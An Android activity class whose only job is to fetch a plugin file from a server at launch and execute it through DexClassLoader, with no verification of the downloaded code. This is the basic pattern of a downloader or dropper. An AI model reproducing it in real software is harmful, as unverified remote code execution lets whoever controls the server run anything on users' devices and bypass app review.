package com.example.fetched;

import android.app.Activity;
import android.os.Bundle;
import dalvik.system.DexClassLoader;
import java.io.File;
import java.io.IOException;

/** Runs the plugin that the server has today. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        new Thread(new Runnable() {
            @Override
            public void run() {
                try {
                    runPlugin(Fetching.fetch(MainActivity.this));
                } catch (IOException | ReflectiveOperationException none) {
                    finish();
                }
            }
        }).start();
    }

    private void runPlugin(File plugin) throws ReflectiveOperationException {
        DexClassLoader loader = new DexClassLoader(plugin.getAbsolutePath(), getCodeCacheDir().getPath(), null, getClassLoader());
        ((Runnable) loader.loadClass("com.example.plugin.Start").getConstructor().newInstance()).run();
    }
}
